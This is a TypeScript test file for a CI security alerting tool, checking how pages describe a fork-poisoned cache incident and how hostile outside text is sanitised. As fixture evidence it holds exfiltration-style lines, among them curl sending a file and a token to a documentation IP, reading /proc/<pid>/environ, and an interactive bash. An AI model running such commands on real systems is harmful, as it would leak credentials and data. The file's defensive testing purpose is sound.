import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type Notice, renderPage, summaryLine } from "../../src/alert/alert.ts";
import { build, match, midnight, midnightChain, rule, Timeline } from "./fakes.ts";

const loud = rule({ id: "loud", title: "Shell on a runner", level: "high", page: true });
const consoleUrl = "https://pipewarden.example/";

function noticesOf(...matches: Parameters<typeof match>[0][]): Notice[] {
  const timeline = new Timeline();
  for (const parts of matches) timeline.step({ match: match(parts) });
  return timeline.notices;
}

function midnightNotices(): Notice[] {
  const timeline = new Timeline();
  for (const step of midnightChain) timeline.step(step);
  return timeline.notices;
}

describe("the page", () => {
  it("of the midnight chain", () => {
    const [page] = midnightNotices();
    const id = page!.incident.id;
    expect(renderPage(page!, { consoleUrl })).toBe(`\
nightly #812 of acme/payments sent 3,981 bytes by POST to 203.0.113.77:80. 31 s before, in the same
run: a process read the environment of another process. The run had restored a cache entry saved by
fork PR #41 of acme/tooling (pull_request, run 77, code from stranger/tooling) 21 days before.
critical: Data sent to a bare address in acme/payments, 4 alerts, ${id}
Build     acme/payments  nightly #812  run 9007/1  job reconcile  step Run tests
          commit 4be1f0c2d3 on main  schedule by octocat  runner runner-17 (self-hosted)
          https://github.example/acme/payments/actions/runs/9007
Origin    restored a cache entry saved by fork PR #41 of acme/tooling (pull_request, run 77, code
          from stranger/tooling) 21 days before
          https://github.example/acme/tooling/actions/runs/77
Secrets   REGISTRY_TOKEN, LEDGER_KEY (rotate them)
Evidence
  2026-11-02 00:02:07Z  falco           fork PR #41 of acme/tooling wrote to a shared cache
  2026-11-23 00:11:07Z  github-webhook  nightly #812 of acme/payments restored a cache entry a
      fork had saved
  2026-11-23 00:12:36Z  falco           Read environment: cat /proc/812/environ file
      /proc/812/environ
  2026-11-23 00:13:07Z  egress          allow POST http://203.0.113.77/in?token=[masked] 3981
      bytes out by curl
Do now
  1. Cancel the run.
  2. Rotate REGISTRY_TOKEN and LEDGER_KEY.
Links     https://pipewarden.example/api/v1/incidents/${id}
          runbook docs/runbooks/exfiltration.md
Paged 300 ms after the last event was received.
`);
    expect(summaryLine(page!)).toBe(
      "[critical] acme/payments nightly #812: Data sent to a bare address",
    );
  });

  it("of an update says what came after", () => {
    const update = midnightNotices().at(-1)!;
    expect(renderPage(update).split("\n").slice(2, 6)).toEqual([
      "fork PR #41 of acme/tooling (pull_request, run 77, code from stranger/tooling) 21 days before. 4 h",
      "later, outside a known run: payments-bot pulled acme/ledger from 198.51.100.9.",
      `critical: Data sent to a bare address in acme/payments, 6 alerts, ${update.incident.id} (update 6)`,
      "Build     acme/payments  nightly #812  run 9007/1  job reconcile  step Run tests",
    ]);
    expect(renderPage(update)).not.toContain("Paged");
    expect(summaryLine(update)).toBe(
      "[critical] update: acme/payments nightly #812: Registry token used from an unknown address",
    );
  });

  it("without a build says where it was, and what to find out", () => {
    const [page] = noticesOf({
      id: "1",
      rule: loud,
      at: midnight,
      join: { runnerName: "runner-3", host: "build-3" },
      fields: { "rule.name": "Shell", "process.command_line": "bash -i" },
    });
    expect(renderPage(page!)).toBe(`\
Shell on a runner.
high: Shell on a runner, 1 alert, ${page!.incident.id}
Build     not known yet  runner runner-3  host build-3
Secrets   not known: no feed told what the job was given
Evidence
  2026-11-23 00:13:07Z  falco  Shell: bash -i
Do now
  1. Find out which job ran there at that time.
  2. If this was expected, say so in the rule's exceptions.
Paged 300 ms after the last event was received.
`);
    expect(summaryLine(page!)).toBe("[high] Shell on a runner");
  });

  it("of a fork's pull request on a hosted runner", () => {
    const run = build({
      runId: "5",
      runAttempt: 2,
      trigger: "pull_request_target",
      actor: "stranger",
      fork: true,
      headRepository: "stranger/payments",
      pullRequest: 9,
      secretsPassed: [],
      environment: "staging",
      runner: { name: "hosted-1", labels: [], hosted: true },
    });
    const [page] = noticesOf({ id: "1", rule: loud, at: midnight, build: run });
    const text = renderPage(page!);
    expect(text).toContain("run 5/2");
    expect(text).toContain("pull_request_target by stranger");
    expect(text).toContain("PR #9 from fork stranger/payments");
    expect(text).toContain("runner hosted-1 (hosted)  environment staging");
    expect(text).toContain("Secrets   none were passed to the job");
    expect(text).toContain("  1. Cancel the run if it is still going; keep its logs.\n");
  });

  it("says when the join to the build is not certain", () => {
    const run = build({ runId: "5" });
    const sure = match({ id: "1", rule: loud, at: midnight, build: run });
    const [event] = sure.events;
    const joinOf = (confidence: "exact" | "likely") => {
      const timeline = new Timeline();
      const buildJoin = { method: "address", confidence, candidates: ["acme/site 7/1 x"] } as const;
      timeline.step({ match: { ...sure, events: [{ ...event!, buildJoin }] } });
      return renderPage(timeline.notices[0]!);
    };
    expect(joinOf("likely")).toContain(
      "joined by address: likely, not certain; or acme/site 7/1 x",
    );
    expect(joinOf("exact")).not.toContain("joined by");
  });

  it("stays within about 30 lines and its width, however much there is", () => {
    const timeline = new Timeline();
    for (let index = 0; index < 40; index++) {
      timeline.step({
        match: match({
          id: `${index}`,
          rule: rule({ ...loud, id: `r${index}`, response: Array(9).fill("Do a thing.") }),
          at: midnight + index,
          build: build({
            runId: "5",
            secretsPassed: Array.from({ length: 40 }, (_, i) => `S${i}`),
          }),
          reason: `something rather long happened here, number ${index}, `.repeat(8),
        }),
      });
    }
    const lines = renderPage(timeline.notices.at(-1)!, { width: 80 }).split("\n");
    expect(lines.length).toBeLessThanOrEqual(32);
    expect(lines.filter((line) => line.length > 90)).toEqual([]);
    expect(lines.filter((line) => line.startsWith("  2026"))).toHaveLength(6);
    expect(lines.join("\n")).toContain("S11 and 28 more");
  });

  it.each([
    [
      "an address behind a long command",
      "curl --silent --show-error --retry 3 --data-binary @/tmp/work/state.bin 203.0.113.77:8443",
      [
        "  2026-11-23 00:13:07Z  falco  Shell: curl --silent --show-error --retry 3 --data-binary",
        "      @/tmp/work/state.bin 203.0.113.77:8443",
      ],
    ],
    [
      "a cache key that fills a line",
      `GET http://cache.example/shared/${"deep/".repeat(9)}toolchain.tar.zst`,
      [
        "  2026-11-23 00:13:07Z  falco  Shell: GET",
        `      http://cache.example/shared/${"deep/".repeat(9)}toolchain.tar.zst`,
      ],
    ],
    [
      "more than two lines hold, cut in the middle",
      `http://203.0.113.77/${"x".repeat(400)}/the-end`,
      [
        `  2026-11-23 00:13:07Z  falco  Shell: http://203.0.113.77/${"x".repeat(40)}`,
        `      ${"x".repeat(13)}…${"x".repeat(72)}/the-end`,
      ],
    ],
  ])("keeps in its evidence %s", (_, command, wanted) => {
    const fields = { "rule.name": "Shell", "process.command_line": command };
    const [page] = noticesOf({ id: "1", rule: loud, at: midnight, fields });
    const lines = renderPage(page!).split("\n");
    const from = lines.indexOf("Evidence") + 1;
    expect(lines.slice(from, lines.indexOf("Do now"))).toEqual(wanted);
    expect(wanted.every((line) => line.length <= 100)).toBe(true);
  });

  it("cuts no character of two halves in two", () => {
    for (const pad of ["", "a"]) {
      const fields = { "process.command_line": `${pad}${"\u{1F600}".repeat(300)}` };
      const [page] = noticesOf({ id: "1", rule: loud, at: midnight, fields });
      expect(renderPage(page!).isWellFormed()).toBe(true);
    }
  });

  it("keeps the leading alert's event among the six, oldest first", () => {
    const many = Array.from({ length: 30 }, (_, index) => ({
      id: `${index}`,
      rule: rule({ id: `r${index}`, level: "high", page: true }),
      at: midnight - 1_000 - index,
      build: build({ runId: "5" }),
    }));
    const top = rule({ id: "top", level: "critical", page: true });
    const notices = noticesOf(...many, {
      id: "top",
      rule: top,
      at: midnight - 9_000_000,
      build: build({ runId: "5" }),
      reason: "the one that counts",
    });
    const lines = renderPage(notices.at(-1)!).split("\n");
    const evidence = lines.filter((line) => line.startsWith("  2026"));
    expect(evidence).toHaveLength(6);
    expect(evidence[0]).toContain("the one that counts");
    const times = evidence.map((line) => line.slice(0, 22));
    expect(times.toSorted()).toEqual(times);
  });
});

describe("outside text", () => {
  const secret = `${"ghp"}_${"aB3".repeat(12)}`;
  const hostile = `\u001b[31mred\u202e evil\nBuild     acme/fake ${secret} <!channel> \u0000`;

  it("cannot forge a line, hide, or carry a token, wherever it stands", () => {
    const run = build({
      runId: hostile,
      workflow: hostile,
      job: hostile,
      step: hostile,
      ref: hostile,
      actor: hostile,
      trigger: hostile,
      headRepository: hostile,
      fork: true,
      sha: hostile,
      runUrl: hostile,
      environment: hostile,
      runner: { name: hostile, labels: [hostile] },
      secretsPassed: [hostile],
    });
    const [page] = noticesOf({
      id: "1",
      rule: rule({ ...loud, title: hostile, response: [hostile], runbook: hostile }),
      at: midnight,
      build: run,
      reason: hostile,
      fields: { "rule.name": hostile, "process.command_line": hostile, "file.path": hostile },
    });
    const text = renderPage(page!, { consoleUrl });
    expect(text).not.toMatch(/[\p{Cc}\p{Cf}](?<!\n)/u);
    expect(text.match(/^Build /gm)).toHaveLength(1);
    expect(text).not.toContain(secret);
    expect(summaryLine(page!)).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(summaryLine(page!).length).toBeLessThanOrEqual(120);
  });

  it("renders whatever it is", () => {
    const text = fc.string({ unit: "binary", maxLength: 300 });
    fc.assert(
      fc.property(text, text, fc.integer(), (reason, command, at) => {
        const run = build({ runId: reason, sha: command });
        const fields = { "process.command_line": command };
        const timeline = new Timeline();
        const parts = { id: "1", rule: loud, at, build: run, reason, fields };
        timeline.step({ match: match(parts) });
        const [page] = timeline.notices;
        expect(renderPage(page!).endsWith("received.\n")).toBe(true);
        expect(summaryLine(page!).length).toBeLessThanOrEqual(120);
        expect(renderPage(page!)).toBe(renderPage(page!));
      }),
      { seed: 11, numRuns: 100 },
    );
  });
});
